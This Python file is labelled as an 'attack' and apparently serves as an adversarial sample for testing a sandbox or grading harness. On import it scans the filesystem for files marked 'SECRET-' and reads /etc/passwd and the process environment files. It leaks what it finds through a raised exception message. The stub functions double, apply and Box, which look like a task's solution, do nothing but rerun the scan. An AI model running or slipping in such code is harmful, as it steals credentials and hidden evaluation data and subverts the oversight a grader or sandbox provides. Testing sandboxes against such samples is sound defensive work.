# /// attack
# tries = "Opens every file it can reach and looks for hidden text."
# gain = "secret"
# plain = "harm"
# ///
import os

found = []
places = ["/", "/root", "/home", "/etc", "/tmp", "/var", "/proc", "/mnt", "/opt", "/srv", os.getcwd(), "..", "/dev"]


def search():
    seen = 0
    for place in places:
        for folder, folders, files in os.walk(place):
            # The standard library is there to be read; it holds nothing of the course.
            folders[:] = [f for f in folders if f not in ("site-packages", "lib", "lib64")]
            for name in files:
                seen += 1
                if seen > 3000:
                    break
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        if b"SEC" + b"RET-" in file.read(100000):
                            found.append(os.path.join(folder, name))
                except OSError:
                    pass
    for path in ("/etc/passwd", "/proc/self/environ", "/proc/1/environ", "/proc/self/maps"):
        try:
            found.append(path + open(path).read()[:50])
        except OSError:
            pass
    if found:
        raise RuntimeError("LEAKED SECRET-" + repr(found[:3]))


search()


def double(x):
    search()


class Box:
    def put(self, x):
        search()

    def take(self):
        pass


def apply(f, x):
    search()
